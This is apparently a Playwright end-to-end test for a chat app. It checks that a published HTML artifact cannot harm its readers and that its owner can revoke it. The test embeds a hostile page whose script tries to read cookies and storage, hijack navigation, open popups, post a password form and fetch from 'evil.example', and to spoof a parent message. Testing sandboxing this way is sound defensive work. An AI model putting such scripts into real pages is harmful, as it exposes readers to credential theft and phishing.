import type { Request } from '@playwright/test';
import { ChatPage } from '../support/chat-page';
import { expectAccessible } from '../support/expect-accessible';
import { seedTalk } from '../support/seed';
import { expect, test } from '../support/test';

const FENCE = '```';

/** Tries what a page could do to the reader, and writes what became of it. */
const HOSTILE = `<!doctype html>
<title>Tide table</title>
<p>High water at nine.</p>
<form id="form" action="https://evil.example/form" method="post" target="_top"><input type="password" name="p" value="secret" aria-label="Password"></form>
<ul id="out"></ul>
<script>
const say = (name, text) => {
  const line = document.createElement('li');
  line.textContent = name + ': ' + text;
  document.getElementById('out').append(line);
};
const attempt = (name, act) => {
  try { say(name, String(act())); } catch (error) { say(name, error.name); }
};
attempt('cookie', () => document.cookie);
attempt('storage', () => localStorage.length);
attempt('session', () => sessionStorage.length);
attempt('parent', () => parent.document.title);
attempt('top', () => { top.location = 'https://evil.example/top'; return 'led away'; });
attempt('popup', () => open('https://evil.example/popup'));
attempt('alert', () => alert('log in'));
attempt('form', () => { document.getElementById('form').submit(); return 'asked'; });
new Image().src = 'https://evil.example/picture.png';
fetch('https://evil.example/fetch').then(() => say('fetch', 'sent'), (error) => say('fetch', error.name));
fetch('/api/convos').then(() => say('api', 'sent'), (error) => say('api', error.name));
const inner = document.createElement('iframe');
inner.src = 'https://evil.example/frame';
document.body.append(inner);
const link = document.createElement('a');
link.href = 'https://evil.example/link';
link.target = '_blank';
link.textContent = 'More';
document.body.append(link);
link.click();
parent.postMessage({ artifact: 'error', message: 'Call this number', line: 1 }, '*');
</script>`;

/** The browser tells of each attempt that it refused. */
test.use({
  // The problem names the picture too, which the policy of the frame refuses before a call is sent.
  expectedStrangers: /^https:\/\/evil\.example\/picture\.png$/,
  expectedProblems: /Unsafe attempt|Ignored call to 'alert|Blocked (?:opening|form)|Content Security Policy/,
});

test('an artifact is published, can do nothing to its readers, and ends when its owner says so', async ({
  page,
  user,
  browser,
}) => {
  const { conversationId } = await seedTalk(user, 'Tides', [
    { parent: -1, text: 'Make a tide table' },
    { parent: 0, text: `Here it is:\n\n${FENCE}html\n${HOSTILE}\n${FENCE}`, isCreatedByUser: false },
  ]);
  const chat = new ChatPage(page);
  await chat.open(`/c/${conversationId}`);
  await page.getByRole('button', { name: /^Tide table/ }).click();
  await page.getByRole('complementary').getByRole('button', { name: 'Publish' }).click();
  const dialog = page.getByRole('dialog', { name: 'Publish artifact' });
  await expectAccessible(page, 'publish dialog');
  await dialog.getByRole('button', { name: 'Publish' }).click();
  const address = await dialog.getByLabel('Link to this artifact').inputValue();
  await expectAccessible(page, 'published');
  await page.keyboard.press('Escape');

  const stranger = await browser.newContext({ locale: 'en-US', colorScheme: 'dark' });
  const reader = await stranger.newPage();
  const asked: Request[] = [];
  stranger.on('request', (request) => asked.push(request));
  const opened: unknown[] = [];
  reader.on('popup', (popup) => opened.push(popup.url()));
  reader.on('dialog', (shown) => opened.push(shown.message()));

  await test.step('a stranger sees it below a bar that says what it is', async () => {
    const answer = await reader.goto(address);
    expect(answer?.status()).toBe(200);
    expect(answer?.headers()['x-robots-tag']).toContain('noindex');
    expect(answer?.headers()['referrer-policy']).toBe('no-referrer');
    expect(answer?.headers()['set-cookie']).toBeUndefined();
    await expect(reader).toHaveTitle('Tide table · Parley');
    await expect(reader.getByRole('heading', { name: 'Tide table' })).toBeVisible();
    await expect(reader.getByText(/Never type a password/)).toBeVisible();
    await expect(reader.getByRole('link', { name: 'Made with Parley' })).toBeVisible();
    await expect(reader.frameLocator('iframe').getByText('High water at nine.')).toBeVisible();
    await expectAccessible(reader, 'published page');
  });

  await test.step('it reaches neither the site nor the net', async () => {
    const lines = reader.frameLocator('iframe').getByRole('listitem');
    await expect(lines).toHaveText([
      'cookie: SecurityError',
      'storage: SecurityError',
      'session: SecurityError',
      'parent: SecurityError',
      'top: SecurityError',
      'popup: null',
      'alert: undefined',
      'form: asked',
      'fetch: TypeError',
      'api: TypeError',
    ]);
    await expect(reader.getByText('Call this number')).toHaveCount(0);
    expect(reader.url()).toBe(address);
    expect(opened).toEqual([]);
    const outside = asked.filter((request) => /evil\.example|\/api\/convos/.test(request.url()));
    for (const request of outside) expect(request.failure()?.errorText).toBe('csp');
    expect(await stranger.cookies()).toEqual([]);
  });

  await test.step('no word of the chat is behind the token', async () => {
    const elsewhere = address.replace('/share/artifacts/', '/share/');
    expect((await reader.goto(elsewhere))?.status()).toBe(404);
  });

  await test.step('its owner ends it in the settings', async () => {
    await page.getByRole('button', { name: /^Account menu/ }).click();
    await page.getByRole('menuitem', { name: 'Settings' }).click();
    await page.getByRole('tab', { name: 'Data' }).click();
    const row = page.getByRole('listitem', { name: /Page of “Tide table”/ });
    await row.getByRole('button', { name: 'End page' }).click();
    await page.getByRole('alertdialog').getByRole('button', { name: 'End page' }).click();
    await expect(row).toHaveCount(0);
    expect((await reader.goto(address))?.status()).toBe(404);
    await expect(reader.getByRole('heading', { name: 'This link doesn’t work' })).toBeVisible();
  });
  await stranger.close();
});
